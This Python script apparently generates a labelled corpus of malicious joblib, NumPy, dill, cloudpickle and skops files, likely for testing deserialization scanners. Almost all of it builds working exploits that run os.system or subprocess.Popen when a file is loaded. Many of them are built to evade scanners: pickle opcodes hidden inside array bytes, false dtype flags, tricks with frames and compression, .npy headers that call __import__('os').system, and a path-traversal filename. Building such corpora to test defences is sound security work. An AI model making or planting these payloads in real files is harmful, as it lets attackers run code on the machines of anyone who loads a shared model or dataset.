"""Malicious files of joblib, NumPy, dill, cloudpickle and skops: `python hostile_arrays.py DIR`.

Made and proved with joblib 1.6.0, numpy 2.4, dill 0.4, cloudpickle 3.1, skops 0.16.
"""
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import zipfile
import zlib

import cloudpickle
import dill
import joblib
import lz4.frame
import numpy as np

from hostile import COMMAND, Call, Corpus, payload

corpus = Corpus(sys.argv[1], "array-")
bad_pickle = pickle.dumps(payload(), 2)
os_system = b"cposix\nsystem\nX" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"\x85R"


def dumped(value, **how):
    buffer = io.BytesIO()
    joblib.dump(value, buffer, **how)
    return buffer.getvalue()


class Object:
    def __init__(self, value):
        self.value = value

    def __reduce__(self):
        return self.value.__reduce__()


objects = np.empty(2, dtype=object)
objects[0], objects[1] = 1, payload()
numbers = np.arange(6.0)
corpus.add("reduce.joblib", dumped(payload()), "joblib")
corpus.add("behind-array.joblib", dumped([numbers, payload(), numbers]), "joblib")
corpus.add("in-object-array.joblib", dumped({"a": numbers, "b": objects}), "joblib")
corpus.add("in-object-array-only.joblib", dumped(objects), "joblib")
whole = dumped([numbers, payload()])
corpus.add("zlib.joblib", zlib.compress(whole), "joblib")
corpus.add("gzip.pkl.gz", gzip.compress(whole), "joblib")
corpus.add("bz2.joblib", bz2.compress(whole), "joblib")
corpus.add("xz.joblib", lzma.compress(whole), "joblib")
corpus.add("lzma.joblib", lzma.compress(whole, lzma.FORMAT_ALONE), "joblib")
corpus.add("lz4.joblib", lz4.frame.compress(whole), "joblib")
corpus.add("zlib-level0.joblib", zlib.compress(whole, 0), "joblib")
corpus.add("gzip-two-members.joblib", gzip.compress(whole[:40]) + gzip.compress(whole[40:]), None)
corpus.add("gzip-cut.joblib", gzip.compress(whole + b"\0" * 100000, 0)[:-60000], "joblib")
corpus.add("zlib-cut.joblib", zlib.compress(whole + os.urandom(90000), 0)[:-60000], "joblib")
plain = dumped(payload())
old = b"ZF" + hex(len(plain)).encode().ljust(19) + zlib.compress(plain)
corpus.add("zfile.pkl", old, "joblib")
for protocol in (0, 1, 2, 3, 4, 5):
    corpus.add(f"protocol{protocol}.joblib", dumped([numbers, payload()], protocol=protocol), "joblib")


# Numbers that are opcodes for pickle.load and nothing for joblib.load.
def without_padding(data):
    """As joblib before 1.2 wrote it."""
    key = b"numpy_array_alignment_bytes"
    at = data.find(key) - 2
    end = at + 2 + len(key)
    return data, at, end


def wrapper(shape, code=b"u1", size=-1, flags=0, extra=b"", order=b"C", raw=b"", frame=False, dtype=None, state_tail=b"b", subclass=b"cnumpy\nndarray\n"):
    dtype = dtype or (b"cnumpy\ndtype\nX" + struct.pack("<I", len(code)) + code + b"\x89\x88\x87R(K\x03X\x01\x00\x00\x00|NNNJ"
                      + struct.pack("<i", size) + b"J" + struct.pack("<i", -1 if size < 0 else 1) + b"K" + bytes([flags]) + b"tb")
    text = lambda s: b"X" + struct.pack("<I", len(s)) + s
    number = lambda v: b"\x8a\x08" + struct.pack("<q", v)
    return (b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text(b"subclass") + subclass + text(b"shape") + b"("
            + b"".join(number(v) for v in shape) + b"t" + text(b"order") + text(order) + text(b"dtype") + dtype
            + text(b"allow_mmap") + b"\x88" + extra + b"u" + state_tail + raw)


code = b"0" + os_system + b"."
corpus.add("opcodes-as-numbers.joblib", b"\x80\x02" + wrapper([len(code)], raw=code) + b".", "pickle")
corpus.add("opcodes-in-second.joblib", b"\x80\x02(" + wrapper([2], raw=b"]0") + wrapper([len(code)], raw=code) + b"t.", "pickle")
corpus.add("opcodes-swallow.joblib", b"\x80\x02(" + wrapper([5], raw=b"0B\x04\0\0\0"[:5]) + b"\0" + os_system + b"t.", None)
lying = wrapper([4], code=b"f8", flags=63, raw=bad_pickle)
corpus.add("flags-lie.joblib", b"\x80\x02" + lying + b".", "joblib")
swallow = b"B" + struct.pack("<I", 200)
corpus.add("flags-lie-hidden.joblib", b"\x80\x02" + wrapper([len(bad_pickle) // 8 + 1], code=b"f8", flags=63, raw=bad_pickle.ljust(8 * (len(bad_pickle) // 8 + 1), b"\0")) + b".", "joblib")
corpus.add("objects-not-flagged.joblib", b"\x80\x02" + wrapper([1], code=b"O8", flags=0, raw=b"\0" * 8) + os_system + b".", None)
corpus.add("record-lies.joblib", b"\x80\x02" + wrapper([1], dtype=b"cnumpy\ndtype\nX\x02\x00\x00\x00V8\x89\x88\x87R(K\x03X\x01\x00\x00\x00|NX\x01\x00\x00\x00a\x85}X\x01\x00\x00\x00acnumpy\ndtype\nX\x02\x00\x00\x00f8\x89\x88\x87R(K\x03X\x01\x00\x00\x00<NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tbK\x00\x86sK\x08K\x01K\x3ftb", raw=bad_pickle) + b".", "joblib")
# The unpickler in Python reads a frame to its end before joblib takes numbers: what is left of the frame runs after them.
hidden = b"0" + os_system
body = wrapper([len(hidden)]) + hidden
corpus.add("array-in-frame.joblib", b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"." + b"\0" * len(hidden), "joblib")
corpus.add("state-twice.joblib", b"\x80\x02" + wrapper([4], raw=b"\0" * 4) + b"(K\x01K\x04\x85cnumpy\ndtype\nX\x02\x00\x00\x00u1\x89\x88\x87R\x89C\x04abcdtb0" + os_system + b".", "joblib")
corpus.add("key-twice.joblib", b"\x80\x02" + wrapper([40], extra=b"X\x05\x00\x00\x00shapeK\x04\x85", raw=b"\0" * 4) + b"0" + os_system + b".".ljust(60, b"\0"), "joblib")
corpus.add("negative-shape.joblib", b"\x80\x02" + wrapper([-2, -3], raw=b"\0" * 6) + os_system + b".", None)
corpus.add("overflow-shape.joblib", b"\x80\x02(" + wrapper([1 << 32, 1 << 32], raw=b"") + os_system + b"t.", None)
corpus.add("huge-shape.joblib", b"\x80\x02" + wrapper([1 << 40], raw=b"\0" * 64) + os_system + b".", None)
corpus.add("reconstructor.joblib", b"\x80\x02" + wrapper([2], raw=b"ab").replace(b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81", b"ccopy_reg\n_reconstructor\n(cjoblib.numpy_pickle\nNumpyArrayWrapper\nc__builtin__\nobject\nNtR") + b"0" + os_system + b".", "joblib")
corpus.add("outer-file.pkl", b"\x80\x02cjoblib.numpy_pickle_compat\nNDArrayWrapper\n)\x81}(X\x08\x00\x00\x00filenameX\x10\x00\x00\x00../../evil/x.npyX\x08\x00\x00\x00subclasscnumpy\nndarray\nub.", None)
corpus.add("calls-joblib.pkl", b"\x80\x02cjoblib\nload\nX\x0d\x00\x00\x00/nowhere/evil\x85R.", None)
corpus.add("stacked.joblib", dumped(numbers) + bad_pickle, None)

# NumPy.
save = lambda value: (lambda b: (np.save(b, value, allow_pickle=True), b.getvalue())[1])(io.BytesIO())


def npy(header, data, version=1):
    text = header.encode() + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + (struct.pack("<H", len(text)) if version == 1 else struct.pack("<I", len(text))) + text + data


describe = lambda descr, shape="(2,)": "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
corpus.add("objects.npy", save(objects), "numpy")
corpus.add("record-of-objects.npy", save(np.array([(1, payload())], dtype=[("a", "i4"), ("b", "O")])), "numpy")
for version in (1, 2, 3):
    corpus.add(f"version{version}.npy", npy(describe("'|O'"), bad_pickle, version), "numpy")
corpus.add("type-by-name.npy", npy(describe("'object'"), bad_pickle), "numpy")
corpus.add("type-by-letter.npy", npy(describe("'O'"), bad_pickle), "numpy")
corpus.add("type-in-part.npy", npy(describe("[('a', [('b', '|O')])]"), bad_pickle), "numpy")
corpus.add("type-in-tuple.npy", npy(describe("('|O', (2,))"), bad_pickle), "numpy")
corpus.add("type-with-comma.npy", npy(describe("'i4,O'"), bad_pickle), "numpy")
corpus.add("huge-object-shape.npy", npy(describe("'|O'", "(99999999999,)"), bad_pickle), "numpy")
corpus.add("python2-numbers.npy", npy(describe("'|O'", "(2L,)"), bad_pickle), "numpy")
corpus.add("second-array.npy", save(numbers) + save(objects), "numpy-twice")
corpus.add("trailing.npy", save(numbers) + bad_pickle, None)
corpus.add("evaluated-header.npy", npy("{'descr': __import__('os').system('%s'), 'fortran_order': False, 'shape': (2,)}" % COMMAND, b"\0" * 16), None)
corpus.add("evaluated-header-2.npy", npy("exec('import os') or {'descr': '<f8', 'fortran_order': False, 'shape': (2,)}", b"\0" * 16), None)
corpus.add("negative-shape.npy", npy(describe("'<f8'", "(-1,)"), b"\0" * 16), None)
corpus.add("huge-shape.npy", npy(describe("'<f8'", "(99999999999999, 99999999999999)"), b"\0" * 16), None)
corpus.add("is-a-pickle.npy", bad_pickle, "numpy")


def npz(path, method=zipfile.ZIP_STORED, name="x.npy", content=None):
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("a.npy", save(numbers))
        archive.writestr(name, content or save(objects))


corpus.add("objects.npz", npz, "npz")
corpus.add("deflated.npz", lambda path: npz(path, zipfile.ZIP_DEFLATED), "npz")
corpus.add("lzma.npz", lambda path: npz(path, zipfile.ZIP_LZMA), "npz")
corpus.add("other-name.npz", lambda path: npz(path, name="data.bin"), "npz")
corpus.add("pickle-inside.npz", lambda path: npz(path, name="x.npy", content=bad_pickle), None)
corpus.add("twice.npz", lambda path: npz(path, name="a.npy"), "npz")

# Code in pickles.
import __main__
attack = eval(f"lambda: __import__('os').system({COMMAND!r})")


def attack_function():
    import os
    return os.system(COMMAND)


class Attack:
    def __call__(self):
        import os
        return os.system(COMMAND)


dill.settings["recurse"] = True
corpus.add("dill-lambda.dill", dill.dumps(attack), "dill")
corpus.add("dill-function.pkl", dill.dumps(attack_function), "dill")
corpus.add("dill-instance.pkl", dill.dumps(Attack()), "dill")
corpus.add("dill-source.pkl", dill.dumps(Call(eval, f"__import__('os').system({COMMAND!r})")), "dill")
corpus.add("cloudpickle-lambda.pkl", cloudpickle.dumps(attack), "cloudpickle")
corpus.add("cloudpickle-function.cloudpickle", cloudpickle.dumps(attack_function), "cloudpickle")
corpus.add("cloudpickle-instance.pkl", cloudpickle.dumps(Attack()), "cloudpickle")
corpus.add("cloudpickle-in-joblib.joblib", dumped({"a": numbers, "f": Call(cloudpickle.loads, cloudpickle.dumps(attack))}), None)

# skops.
identity = iter(range(1, 10 ** 6))
node = lambda loader, module, name, **more: {"__class__": name, "__module__": module, "__loader__": loader, "__id__": next(identity), **more}
value = lambda v: node("JsonNode", "builtins", "str", content=json.dumps(v), is_json=True)
listed = lambda *items: node("TupleNode", "builtins", "tuple", content=list(items))


def skops(root, **files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", json.dumps({**root, "protocol": 2, "_skops_version": "0.16.0"}))
        for name, content in files.items():
            archive.writestr(name.replace("_", "."), content)
    return buffer.getvalue()


corpus.add("constructor.skops", skops(node("ConstructorFromReduceNode", "os", "system", content=listed(value(COMMAND)))), "skops")
corpus.add("operator.skops", skops(node("OperatorFuncNode", "operator", "methodcaller", attrs=listed(value("system"), value(COMMAND)))), None)
corpus.add("operator-claims.skops", skops(node("OperatorFuncNode", "sklearn.linear_model", "call", attrs=listed(node("FunctionNode", "os", "system"), value(COMMAND)))), None)
corpus.add("operator-call.skops", skops(node("OperatorFuncNode", "operator", "call", attrs=listed(node("FunctionNode", "os", "system"), value(COMMAND)))), "skops")
corpus.add("method.skops", skops(node("MethodNode", "builtins", "str", content={"func": "format", "obj": value("x")})), None)
corpus.add("partial.skops", skops(node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "os", "system"), "args": listed(value(COMMAND)), "kwds": node("DictNode", "builtins", "dict", content={}, key_types=node("ListNode", "builtins", "list", content=[])), "namespace": value(None)})), None)
corpus.add("object.skops", skops(node("ObjectNode", "subprocess", "Popen")), None)
corpus.add("type.skops", skops(node("TypeNode", "os", "system")), None)
corpus.add("keys-behind.skops", skops({"content": {"x": {"__id__": 1, "content": listed(value(COMMAND)), "__class__": "system", "__module__": "os", "__loader__": "ConstructorFromReduceNode"}}, **node("DictNode", "builtins", "dict", key_types=node("ListNode", "builtins", "list", content=[node("TypeNode", "builtins", "str")]))}), "skops")
corpus.add("unknown-node.skops", skops(node("RunNode", "os", "system")), None)
corpus.add("pickle-beside.skops", skops(value(1), data_pkl=bad_pickle), None)
corpus.add("objects-beside.skops", skops(value(1), data_npy=save(objects)), None)
corpus.close("arrays.csv")
